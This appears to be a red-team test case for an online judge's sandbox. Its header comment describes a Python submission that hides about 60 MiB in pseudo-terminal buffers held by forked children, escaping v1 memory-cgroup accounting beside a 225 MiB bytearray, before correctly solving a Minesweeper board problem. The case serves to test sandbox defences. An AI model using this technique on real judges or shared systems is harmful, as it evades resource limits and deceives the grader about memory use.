# Attack (red-team round 12): parks ~60 MiB in pseudo-terminal buffers, which a v1 memory cgroup does
# not charge to the box, held by 20 forked children, beside a 225 MiB bytearray of the case itself;
# every stashed byte is read back, then it answers correctly: was AC at ~258 MiB measured for ~300 MiB
# held. Expected: RE, no terminal in the box (/dev/pts is empty, so /dev/ptmx names nothing).
import os, tty, hashlib, fcntl, sys

KIDS, PAIRS, BIG_MB = 20, 115, 225

def nonblock(fd):
    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)

def fill(fd):
    nonblock(fd); block, n, h = os.urandom(4096), 0, hashlib.sha256()
    while True:
        try:
            k = os.write(fd, block)
        except BlockingIOError:
            break
        if k <= 0: break
        h.update(block[:k]); n += k
    return n, h.digest()

def drain(fd, n):
    h, got = hashlib.sha256(), 0
    while got < n:
        try:
            d = os.read(fd, 65536)
        except BlockingIOError:
            break
        if not d: break
        h.update(d); got += len(d)
    return got, h.digest()

def child(ready_w, go_r, res_w):
    ps = []
    for _ in range(PAIRS):
        m, s = os.openpty(); tty.setraw(s); tty.setraw(m)
        ps.append((m, s, fill(m), fill(s)))
    stored = sum(a[0] + b[0] for _, _, a, b in ps)
    os.write(ready_w, b"%d\n" % stored)
    os.read(go_r, 1)
    back = ok = 0
    for m, s, (na, ha), (nb, hb) in ps:
        ga, da = drain(s, na); gb, db = drain(m, nb)
        back += ga + gb; ok += (da == ha and ga == na) + (db == hb and gb == nb)
    os.write(res_w, b"%d %d\n" % (back, ok)); os._exit(0)

def work():
    for fd in os.openpty():  # one terminal first, in the case's own process: where there is none, its error
        os.close(fd)
    ready_r, ready_w = os.pipe(); go_r, go_w = os.pipe(); res_r, res_w = os.pipe()
    pids = []
    for _ in range(KIDS):
        pid = os.fork()
        if pid == 0:
            child(ready_w, go_r, res_w)
        pids.append(pid)
    stored = 0
    buf = b""
    while buf.count(b"\n") < KIDS:
        buf += os.read(ready_r, 4096)
    stored = sum(int(x) for x in buf.split())
    big = bytearray(BIG_MB << 20)
    for i in range(0, len(big), 4096): big[i] = 1          # really held, while the ptys hold the rest
    os.write(go_w, b"x" * KIDS)
    buf = b""
    while buf.count(b"\n") < KIDS:
        buf += os.read(res_r, 4096)
    nums = [int(x) for x in buf.split()]
    for p in pids: os.waitpid(p, 0)
    for fd in (ready_r, ready_w, go_r, go_w, res_r, res_w): os.close(fd)
    return stored, sum(nums[0::2]), sum(nums[1::2]), len(big)

class Solution:
    def updateBoard(self, board, click):
        stored, back, ok, big = work()
        print(f"held {big >> 20} MiB bytearray + {stored >> 20} MiB in {KIDS * PAIRS} ptys; read back {back >> 20} MiB, {ok}/{2 * KIDS * PAIRS} intact")
        r, c = click
        if board[r][c] == 'M':
            board[r][c] = 'X'; return board
        R, C = len(board), len(board[0])
        st = [(r, c)]
        while st:
            i, j = st.pop()
            if board[i][j] != 'E': continue
            n = 0
            for di in (-1, 0, 1):
                for dj in (-1, 0, 1):
                    x, y = i + di, j + dj
                    if 0 <= x < R and 0 <= y < C and board[x][y] in 'MX': n += 1
            if n: board[i][j] = str(n); continue
            board[i][j] = 'B'
            for di in (-1, 0, 1):
                for dj in (-1, 0, 1):
                    x, y = i + di, j + dj
                    if 0 <= x < R and 0 <= y < C and board[x][y] == 'E': st.append((x, y))
        return board
